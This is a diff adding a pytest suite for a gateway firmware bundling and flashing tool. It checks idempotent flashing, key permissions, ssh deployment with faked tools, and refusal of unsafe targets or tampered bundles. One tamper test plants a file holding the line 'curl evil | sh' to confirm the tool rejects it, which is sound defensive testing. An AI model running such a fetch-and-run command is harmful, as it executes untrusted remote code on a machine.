@@ -1,0 +1,271 @@
+"""Bundles and flash.sh: a bundle flashed into a temporary directory is a tree from which
+``python -m firmware run`` starts and forwards to a mosquitto configured from the site's
+material; a second flash changes nothing; unsafe targets and tampered bundles are refused;
+the ssh path is exercised with --dry-run and with fake ssh/scp/rsync on PATH (there is
+no ssh server here); MicroPython boards are sent to their own tool."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from host_tools.__main__ import main as host_tools
+from host_tools.ledger.service import LedgerService, load_keys
+from host_tools.ledger.store import LedgerStore
+from simulator.broker import Broker, TlsListener
+from simulator.devices.scanner import BarcodeScanner
+from simulator.lab import wait_for
+
+ROOT = Path(__file__).resolve().parents[2]
+FLASH = ROOT / "flash.sh"
+
+
+def flash(*argv: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["bash", str(FLASH), *argv], capture_output=True, text=True,
+                          timeout=120, env=env)
+
+
+def template(tmp: Path, broker: str, extra: str = "") -> Path:
+    t = tmp / "template.toml"
+    t.write_text(f"""
+[journal]
+path = "journal"          # relative to the site file: /etc/midshift/journal on a card
+[devices.scanner1]
+type = "scanner"
+port = "{tmp / 'scanner1'}"
+[uplinks.eth]
+broker = "{broker}"
+{extra}
+""")
+    return t
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    tmp = tmp_path_factory.mktemp("bundle")
+    s = tmp / "site"
+    for argv in (["init-site", "plant1"], ["gateway", "gw-01", "--board", "sim"],
+                 ["gateway", "gw-02", "--board", "sim"], ["revoke", "gw-02"],
+                 ["broker", "--host", "127.0.0.1"]):
+        assert host_tools(["provision", "--site-dir", str(s), *argv]) == 0
+    tls = TlsListener(s / "ca/ca.crt", s / "broker/server.crt", s / "broker/server.key",
+                      use_identity_as_username=True, crlfile=s / "ca/crl.pem")
+    broker = Broker(tmp / "broker", tls=tls, acl_file=s / "broker/acl").start()
+    tpl = template(tmp, broker.tls_url or "")
+    bundle = tmp / "bundle"
+    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(s),
+                       "--config", str(tpl), "-o", str(bundle)]) == 0
+    try:
+        yield {"tmp": tmp, "site": s, "broker": broker, "bundle": bundle, "template": tpl}
+    finally:
+        broker.close()
+
+
+def tree_state(root: Path) -> dict[str, tuple[int, int]]:
+    return {str(p.relative_to(root)): (p.stat().st_mtime_ns, p.stat().st_mode)
+            for p in root.rglob("*") if p.is_file()}
+
+
+def test_a_flashed_tree_runs_the_agent_which_forwards_to_the_broker_and_a_second_flash_changes_nothing(
+        site: dict[str, Any]) -> None:
+    card = site["tmp"] / "card"
+    card.mkdir()
+    first = flash("--bundle", str(site["bundle"]), "--target", str(card), "--site-dir",
+                  str(site["site"]))
+    assert first.returncode == 0, first.stderr
+    keys = card / "etc/midshift/keys"
+    assert keys.stat().st_mode & 0o777 == 0o700
+    assert all(k.stat().st_mode & 0o777 == 0o600 for k in keys.glob("*.key"))
+    before = tree_state(card)
+    second = flash("--bundle", str(site["bundle"]), "--target", str(card))
+    assert second.returncode == 0 and "0 file(s) changed" in second.stdout
+    assert tree_state(card) == before
+    audit = (site["site"] / "audit.log").read_text().splitlines()
+    assert json.loads(audit[-1])["action"] == "flash"    # one line for the one real change
+
+    opt = card / "opt/midshift"
+    env = {**os.environ, "PYTHONPATH": str(opt)}
+    where = subprocess.run([sys.executable, "-c", "import firmware; print(firmware.__file__)"],
+                           cwd=opt, env=env, capture_output=True, text=True, timeout=60)
+    assert where.stdout.strip().startswith(str(opt))     # the flashed agent, not the repo's
+    store = LedgerStore(f"sqlite:///{site['tmp'] / 'ledger.db'}")
+    ledger = LedgerService(store, load_keys(site["site"] / "ledger/keys.toml"),
+                           site["broker"].url).start()
+    with BarcodeScanner("scanner1", site["tmp"] / "scanner1") as scanner:
+        agent = subprocess.Popen([sys.executable, "-m", "firmware", "run", "--config",
+                                  str(card / "etc/midshift/site.toml")], cwd=opt, env=env,
+                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+        try:
+            assert scanner.wait_client(30), "the flashed agent never opened the scanner"
+            sent = [scanner.scan() for _ in range(3)]
+            assert wait_for(lambda: store.count("gw-01") >= 3, 30), site["broker"].log_tail()
+        finally:
+            agent.send_signal(signal.SIGTERM)
+            try:
+                _, err = agent.communicate(timeout=30)
+            except subprocess.TimeoutExpired:
+                agent.kill()
+                _, err = agent.communicate(timeout=10)
+            ledger.stop()
+    codes = [json.loads(r[0])["code"] for r in store.query(
+        "SELECT data FROM event_fields WHERE gateway='gw-01' ORDER BY seq")]
+    store.close()
+    assert codes == sent
+    assert agent.returncode == 0, err[-2000:]
+    assert (card / "etc/midshift/journal/journal.head").exists()
+
+
+def test_dry_run_lists_what_would_change_and_writes_nothing(site: dict[str, Any]) -> None:
+    card = site["tmp"] / "dry"
+    card.mkdir()
+    out = flash("--bundle", str(site["bundle"]), "--target", str(card), "--dry-run")
+    assert out.returncode == 0
+    assert "would write etc/midshift/keys/batch.key (new)" in out.stdout
+    assert "nothing written" in out.stdout and not any(card.iterdir())
+
+
+def _copy_bundle(site: dict[str, Any], name: str) -> Path:
+    dst = site["tmp"] / name
+    subprocess.run(["cp", "-a", str(site["bundle"]), str(dst)], check=True, timeout=60)
+    return dst
+
+
+@pytest.mark.parametrize("case, expect", [
+    ("root", "is the root of this machine: refusing"),
+    ("not-a-mount", "is not a mount point (--require-mount)"),
+    ("missing", "no such directory"),
+    ("edited", "manifest does not verify, refusing to flash"),
+    ("added", "files not in the manifest: root/etc/midshift/extra.sh"),
+    ("symlink", "resolves outside"),
+])
+def test_unsafe_targets_and_bad_bundles_are_refused_with_one_line(
+        site: dict[str, Any], case: str, expect: str) -> None:
+    bundle, target, extra = site["bundle"], site["tmp"] / f"t-{case}", []
+    target.mkdir()
+    if case == "root":
+        target = Path("/")
+    elif case == "not-a-mount":
+        extra = ["--require-mount"]
+    elif case == "missing":
+        target = site["tmp"] / "nope"
+    elif case == "edited":
+        bundle = _copy_bundle(site, "b-edited")
+        with open(bundle / "root/etc/midshift/site.toml", "a") as f:
+            f.write("# harmless?\n")
+    elif case == "added":
+        bundle = _copy_bundle(site, "b-added")
+        (bundle / "root/etc/midshift/extra.sh").write_text("curl evil | sh\n")
+    elif case == "symlink":  # the card's /etc points at this machine's
+        outside = site["tmp"] / "outside"
+        outside.mkdir()
+        (target / "etc").symlink_to(outside)
+    out = flash("--bundle", str(bundle), "--target", str(target), *extra)
+    assert out.returncode == 2
+    assert expect in out.stderr and out.stderr.count("\n") == 1
+    if case == "symlink":
+        assert not any((site["tmp"] / "outside").iterdir())
+
+
+def test_ssh_dry_run_prints_the_copy_and_the_systemctl_plan(site: dict[str, Any]) -> None:
+    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://pi@gw-01.local:2222",
+                "--dry-run")
+    assert out.returncode == 0, out.stderr
+    assert "pi@gw-01.local:/" in out.stdout and ("-P 2222" in out.stdout or "ssh -p 2222" in out.stdout)
+    assert "systemctl enable --now midshift" in out.stdout and "daemon-reload" in out.stdout
+    assert "nothing is sent now" in out.stdout
+
+
+@pytest.mark.parametrize("with_rsync", [True, False])
+def test_ssh_flash_runs_the_copy_then_enables_the_service(site: dict[str, Any], tmp_path: Path,
+                                                          with_rsync: bool) -> None:
+    """Fake ssh/scp/rsync record their arguments: the plan is run as printed, in order."""
+    fake = tmp_path / "bin"
+    fake.mkdir()
+    log = tmp_path / "calls"
+    tools = ["ssh", "scp"] + (["rsync"] if with_rsync else [])
+    for tool in tools:
+        (fake / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> "{log}"\n')
+        (fake / tool).chmod(0o755)
+    path = f"{fake}:/usr/bin:/bin"
+    if not with_rsync and subprocess.run(["sh", "-c", "command -v rsync"], env={"PATH": path},
+                                         capture_output=True).returncode == 0:
+        pytest.skip("a real rsync is installed: the scp fallback cannot be isolated")
+    out = flash("--bundle", str(site["bundle"]), "--target", "ssh://pi@10.0.0.7",
+                env={**os.environ, "PATH": path})
+    assert out.returncode == 0, out.stderr
+    calls = log.read_text().splitlines()
+    assert len(calls) == 2
+    assert calls[0].startswith("rsync -rlp --checksum" if with_rsync else "scp -P 22 -p -r")
+    assert f"{site['bundle']}/root" in calls[0] and calls[0].endswith("pi@10.0.0.7:/")
+    assert calls[1].startswith("ssh -p 22 pi@10.0.0.7 ")
+    assert "systemctl enable --now midshift" in calls[1]
+    assert "chmod 600 /etc/midshift/keys/*.key" in calls[1]
+    # rsync (faked) printed no itemized change: no restart; scp cannot tell: restart.
+    assert ("systemctl restart midshift" in calls[1]) is not with_rsync
+
+
+def test_micropython_boards_are_built_by_mpy_bundle_with_the_provisioned_keys(
+        site: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """The wiring only: host_tools/mpy_bundle.py is another engineer's module, replaced
+    here by a recorder so this test does not depend on mpy-cross."""
+    import host_tools.mpy_bundle as mpy_bundle
+    calls: list[tuple[Any, ...]] = []
+
+    def fake(gateway: str, board: str, out_dir: Path, **kw: Any) -> Path:
+        calls.append((gateway, board, out_dir, kw))
+        return out_dir
+
+    monkeypatch.setattr(mpy_bundle, "build_mpy_bundle", fake)
+    s = site["site"]
+    assert host_tools(["provision", "--site-dir", str(s), "gateway", "node-01",
+                       "--board", "pico-w"]) == 0
+    assert host_tools(["bundle", "node-01", "--board", "pico-w", "--site-dir", str(s),
+                       "--config", str(site["template"]), "-o", str(tmp_path / "mpy")]) == 0
+    assert "built by host_tools/mpy_bundle.py" in capsys.readouterr().out
+    (gw, board, out, kw), = calls
+    assert (gw, board, out) == ("node-01", "pico-w", tmp_path / "mpy")
+    assert kw["hmac_key"].hex() == (s / "gateways/node-01/batch.key").read_text().strip()
+    assert kw["command_key"].hex() == (s / "host/command.key").read_text().strip()
+    monkeypatch.setitem(sys.modules, "host_tools.mpy_bundle", None)  # as if it were absent
+    assert host_tools(["bundle", "node-01", "--board", "pico-w", "--site-dir", str(s),
+                       "--config", str(site["template"]), "-o", str(tmp_path / "mpy2")]) == 2
+    assert "host_tools/mpy_bundle.py, which is not in this build" in capsys.readouterr().err
+    out = flash("--bundle", str(site["bundle"]), "--target", "mpy:/dev/ttyACM0")
+    assert out.returncode == 2 and "host_tools/mpy_bundle.py" in out.stderr
+
+
+@pytest.mark.parametrize("argv, tpl_extra, expect", [
+    (["gw-01", "--board", "rpi4-eth-lte"], "", "gateway gw-01 was provisioned for sim"),
+    (["gw-02", "--board", "sim"], "", "gateway gw-02 is revoked"),
+    (["gw-01", "--board", "sim"], "priority = 5000", "uplinks.eth.priority: 5000 is out of range"),
+    (["gw-01", "--board", "sim"], "[gateway]\nid = \"gw-07\"", "gateway.id is 'gw-07' in the template"),
+])
+def test_bad_bundle_input_is_exit_2_with_one_line(site: dict[str, Any], tmp_path: Path,
+                                                  argv: list[str], tpl_extra: str, expect: str,
+                                                  capsys: pytest.CaptureFixture[str]) -> None:
+    tpl = template(tmp_path, site["broker"].tls_url, tpl_extra)
+    assert host_tools(["bundle", *argv, "--site-dir", str(site["site"]), "--config", str(tpl),
+                       "-o", str(tmp_path / "out")]) == 2
+    err = capsys.readouterr().err.strip()
+    assert expect in err and "\n" not in err
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_plain_mqtt_uplink_and_a_non_empty_output_are_refused(
+        site: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    plain = template(tmp_path, site["broker"].url)
+    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(site["site"]),
+                       "--config", str(plain), "-o", str(tmp_path / "o1")]) == 2
+    assert "is not mqtts://" in capsys.readouterr().err
+    assert host_tools(["bundle", "gw-01", "--board", "sim", "--site-dir", str(site["site"]),
+                       "--config", str(site["template"]), "-o", str(site["bundle"])]) == 2
+    assert "is not empty: refusing to overwrite" in capsys.readouterr().err
